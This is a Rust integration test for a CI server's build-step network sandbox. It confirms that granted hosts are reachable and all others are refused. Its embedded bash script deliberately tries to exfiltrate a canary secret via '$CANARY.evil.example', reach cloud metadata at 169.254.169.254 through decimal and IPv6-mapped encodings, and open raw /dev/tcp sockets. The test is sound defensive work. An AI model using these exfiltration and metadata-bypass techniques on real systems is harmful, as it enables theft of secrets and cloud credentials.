//! The way out of a step: what is granted is reached by every protocol, nothing else is, and all of it is listed with the build.

use std::sync::{Arc, Mutex, PoisonError};

use anyhow::{Context as _, ensure};
use axum::Router;
use axum::extract::Request;
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse as _, Response};
use serde_json::Value;
use stampmill_e2e::{Host, Place, stranger};
use tokio::net::TcpListener;

/// The paths that were asked for.
#[derive(Clone, Default)]
struct Heard(Arc<Mutex<Vec<String>>>);

impl Heard {
    /// Listens at a port of its own, and sends whoever asks for `/moved` on to there.
    async fn listen(&self, moved: &str) -> anyhow::Result<String> {
        let (heard, moved) = (self.clone(), moved.to_owned());
        let answer = move |request: Request| {
            let (heard, moved) = (heard.clone(), moved.clone());
            async move { heard.take(&request, &moved) }
        };
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let address = listener.local_addr()?.to_string();
        tokio::spawn(async move {
            // It ends with the test.
            let _ = axum::serve(listener, Router::new().fallback(answer)).await;
        });
        Ok(address)
    }

    fn take(&self, request: &Request, moved: &str) -> Response {
        let path = request.uri().path().to_owned();
        let go_on = path == "/moved";
        self.0.lock().unwrap_or_else(PoisonError::into_inner).push(path);
        if go_on {
            return (StatusCode::FOUND, [(header::LOCATION, moved)]).into_response();
        }
        StatusCode::OK.into_response()
    }

    fn paths(&self) -> Vec<String> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

/// Asks by curl where the machine has it, else by hand. Each line has a name, and the status or what was said instead.
const ASKING: &str = r#"
have_curl() { command -v curl >/dev/null; }
plain() {
  if have_curl; then curl -g -s -o /dev/null -m 60 -w '%{http_code}' "http://$1$2"
  else exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://%s%s HTTP/1.1\r\nHost: %s\r\n\r\n' "$1" "$2" "$1" >&3; head -n 1 <&3 | cut -d' ' -f2; exec 3>&-; fi
}
tunnel() {
  if have_curl; then curl -g -s -o /dev/null -m 60 -p -x "$https_proxy" -w '%{http_connect}' "http://$1$2"
  else exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT %s HTTP/1.1\r\n\r\n' "$1" >&3; head -n 1 <&3 | cut -d' ' -f2; exec 3>&-; fi
}
socks() {
  if have_curl; then curl -g -s -o /dev/null -m 60 -x "$ALL_PROXY" -w '%{http_code}' "http://$1$2"
  else exec 3<>/dev/tcp/127.0.0.1/3128; host=${1%:*}; port=${1##*:}
    printf '\5\1\0\5\1\0\3'"\\$(printf %o ${#host})$host\\$(printf %o $((port / 256)))\\$(printf %o $((port % 256)))" >&3
    printf 'GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' "$2" >&3 2>/dev/null
    tail -c +13 <&3 | head -n 1 | cut -s -d' ' -f2; exec 3>&-; fi
}
"#;

fn config(granted: &str, other: &str) -> String {
    let port = other.rsplit(':').next().unwrap_or_default();
    format!(
        r#"
[plugin.stranger]
file = "stranger.wasm"
[secret.canary]
file = "canary"
[[scheduler]]
name = "by-hand"
kind = "force"
builders = ["out"]
[[worker]]
name = "local"
[[builder]]
name = "out"
job = "out"
[[job]]
name = "out"
[[job.step]]
name = "programs"
plugin = "shell"
grant = {{ command = ["bash"], net = ["{granted}", "git.example:443"], secret = ["canary"] }}
[job.step.config]
command = ["bash", "-c", '''{ASKING}
echo "plain $(plain {granted} /plain)"
echo "tunnel $(tunnel {granted} /tunnel)"
echo "socks $(socks {granted} /socks)"
echo "other plain $(plain {other} /evil)"
echo "other tunnel $(tunnel {other} /evil)"
echo "other socks <$(socks {other} /evil)>"
echo "other decimal <$(socks 2130706433:{port} /evil)>"
echo "metadata $(plain 169.254.169.254:80 /latest)"
echo "metadata decimal $(tunnel 2852039166:80 /latest)"
echo "metadata mapped $(tunnel '[::ffff:169.254.169.254]:80' /latest)"
echo "private $(tunnel 10.0.0.1:22 /)"
echo "exfiltrated $(tunnel "$CANARY.evil.example:443" /)"
for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do tunnel loop.example:443 / >/dev/null; done
echo "direct $( (exec 3<>/dev/tcp/${{ADDRESS%:*}}/${{ADDRESS#*:}}) 2>/dev/null && echo open || echo shut)"
echo "no proxy for <$NO_PROXY>"
''']
secret-environment = {{ CANARY = "canary" }}
environment = {{ ADDRESS = "{granted}" }}
[[job.step]]
name = "plugin"
plugin = "stranger"
config = "run:http-follow|http://{granted}/moved"
always-run = true
grant = {{ command = ["true"], http = ["http://{granted}"], secret = ["canary"] }}
[[job.step]]
name = "alone"
plugin = "shell"
always-run = true
grant = {{ command = ["bash"] }}
[job.step.config]
command = ["bash", "-c", '''
for address in "$ADDRESS" 127.0.0.1:3128 169.254.169.254:80; do
  (exec 3<>/dev/tcp/${{address%:*}}/${{address#*:}}) 2>/dev/null && echo open || echo shut
done
env | grep -ci _proxy
''']
environment = {{ ADDRESS = "{granted}" }}
"#
    )
}

/// A component that asks for whatever there is.
fn greedy() -> Vec<u8> {
    let asks = ["command", "http", "secret", "workspace", "properties", "logs"];
    stranger(stampmill_guests::STEP, "stranger-step", "step", &asks)
}

/// Each attempt of a step as `protocol target result × count`.
fn attempts(step: &Value) -> Vec<String> {
    let attempts = step["network"]["attempts"].as_array().cloned().unwrap_or_default();
    let word = |attempt: &Value, key: &str| attempt[key].as_str().unwrap_or_default().to_owned();
    let line = |attempt: &Value| {
        let (protocol, target, result) = (word(attempt, "protocol"), word(attempt, "target"), word(attempt, "result"));
        format!("{protocol} {target} {result} × {}", attempt["count"])
    };
    attempts.iter().map(line).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_step_reaches_what_it_was_granted_and_every_attempt_is_listed_with_its_build() -> anyhow::Result<()> {
    let place = Place::new()?;
    let (here, there) = (Heard::default(), Heard::default());
    let other = there.listen("").await?;
    let granted = here.listen(&format!("http://{other}/evil")).await?;
    std::fs::write(place.path().join("stranger.wasm"), greedy())?;
    std::fs::write(place.path().join("canary"), "canary-7261\n")?;
    let host = Host::up(place.path(), &config(&granted, &other)).await?;
    let forced = host.typed(&["force", "out", "--wait"]).await?;
    ensure!(forced.code != 0, "the plugin's step fails: {forced:?}");

    let log = host.text("/api/v1/builds/1/steps/0/logs/stdio").await?;
    let said: Vec<&str> = log.lines().filter(|line| !line.starts_with("[stampmill network: ")).collect();
    let expected = [
        "plain 200",
        "tunnel 200",
        "socks 200",
        "other plain 403",
        "other tunnel 403",
        "other socks <000>",
        "other decimal <000>",
        "metadata 403",
        "metadata decimal 403",
        "metadata mapped 403",
        "private 403",
        "exfiltrated 403",
        "direct shut",
        "no proxy for <>",
    ];
    // By hand there is no status of what never was a connection.
    let said: Vec<String> =
        said.iter().map(|line| line.replace("<>", "<000>").replace("for <000>", "for <>")).collect();
    assert_eq!(said, expected, "{log}");
    assert!(log.contains(
        "[stampmill network: refused: `169.254.169.254:80`, the address of a cloud's metadata service, is not granted"
    ));
    assert_eq!(log.matches("refused: `loop.example:443`").count(), 1, "{log}");
    let asked = here.paths();
    for path in ["/plain", "/socks", "/moved"] {
        assert!(asked.iter().any(|asked| asked == path), "{path}: {asked:?}");
    }
    assert!(there.paths().is_empty(), "nobody reached what was not granted: {:?}", there.paths());

    let build = host.get("/api/v1/builds/1").await?;
    let tried = attempts(&build["steps"][0]);
    for line in [
        format!("http {granted} connected × 1"),
        format!("connect {granted} connected × 1"),
        format!("socks5 {granted} connected × 1"),
        format!("http {other} refused × 1"),
        format!("connect {other} refused × 1"),
        format!("socks5 {other} refused × 2"),
        "http 169.254.169.254:80 refused × 1".to_owned(),
        "connect 169.254.169.254:80 refused × 1".to_owned(),
        "connect [::ffff:a9fe:a9fe]:80 refused × 1".to_owned(),
        "connect 10.0.0.1:22 refused × 1".to_owned(),
        "connect ***.evil.example:443 refused × 1".to_owned(),
        "connect loop.example:443 refused × 20".to_owned(),
    ] {
        assert!(tried.contains(&line), "{line}: {tried:#?}");
    }
    assert_eq!((tried.len(), &build["steps"][0]["network"]["unlisted"]), (12, &Value::from(0)), "{tried:#?}");
    assert_eq!(
        attempts(&build["steps"][1]),
        [format!("plugin {granted} connected × 1"), format!("plugin {other} refused × 1")]
    );
    let refused = &build["steps"][1]["network"]["attempts"][1];
    assert!(
        refused["why"].as_str().context("it says why")?.contains("is not granted; the grant `http = ["),
        "{refused}"
    );

    let log = host.text("/api/v1/builds/1/steps/2/logs/stdio").await?;
    assert_eq!(log, "shut\nshut\nshut\n0\n", "without a grant there is no way out and no proxy");
    assert_eq!(attempts(&build["steps"][2]), [""; 0]);

    let page = host.text("/builds/1").await?;
    let network = page.split("id=\"network\"").nth(1).context("the page has the list")?;
    let network = network.split("</section>").next().unwrap_or_default();
    for part in
        [granted.as_str(), &other, "169.254.169.254:80", "metadata service", "loop.example:443", "***.evil.example:443"]
    {
        assert!(network.contains(part), "{part}: {network}");
    }
    assert!(!page.contains("canary-7261") && !build.to_string().contains("canary-7261"));
    a_name_that_leads_home_is_refused(&host, &granted).await
}

/// A name that leads to loopback, as every machine's own may: the grant of the name alone is not enough.
async fn a_name_that_leads_home_is_refused(host: &Host, granted: &str) -> anyhow::Result<()> {
    let name = nix::unistd::gethostname()?.to_string_lossy().into_owned();
    let port = granted.rsplit(':').next().unwrap_or_default();
    let named = format!("{name}:{port}");
    let found: Vec<_> = tokio::net::lookup_host(&named).await.map(Iterator::collect).unwrap_or_else(|_| Vec::new());
    if name == "localhost" || found.is_empty() || !found.iter().all(|address| address.ip().is_loopback()) {
        println!("skipped: the name of this machine does not lead to loopback");
        return Ok(());
    }
    for (net, result) in [(format!("\"{named}\""), "refused"), (format!("\"{named}\", \"{granted}\""), "connected")] {
        let config = format!(
            "[[scheduler]]\nname = \"by-hand\"\nkind = \"force\"\nbuilders = [\"home\"]\n[[worker]]\nname = \"local\"\n[[builder]]\nname = \"home\"\njob = \"home\"\n\
             [[job]]\nname = \"home\"\n[[job.step]]\nplugin = \"shell\"\ngrant = {{ command = [\"bash\"], net = [{net}] }}\n\
             [job.step.config]\ncommand = [\"bash\", \"-c\", '''{ASKING}\ntunnel {named} /home''']\n"
        );
        std::fs::write(host.place.join("stampmill.toml"), config)?;
        let reload = host.typed(&["reload"]).await?;
        ensure!(reload.code == 0, "{reload:?}");
        host.typed(&["force", "home", "--wait"]).await?;
        let builds = host.get("/api/v1/builds?builder=home&limit=1").await?;
        let step = &builds["items"][0]["steps"][0];
        assert_eq!(attempts(step), [format!("connect {named} {result} × 1")], "{step:#}");
        let why = step["network"]["attempts"][0]["why"].as_str().unwrap_or_default();
        assert!(result == "connected" || why.contains("a loopback address; the grant `net = ["), "{why}");
    }
    Ok(())
}
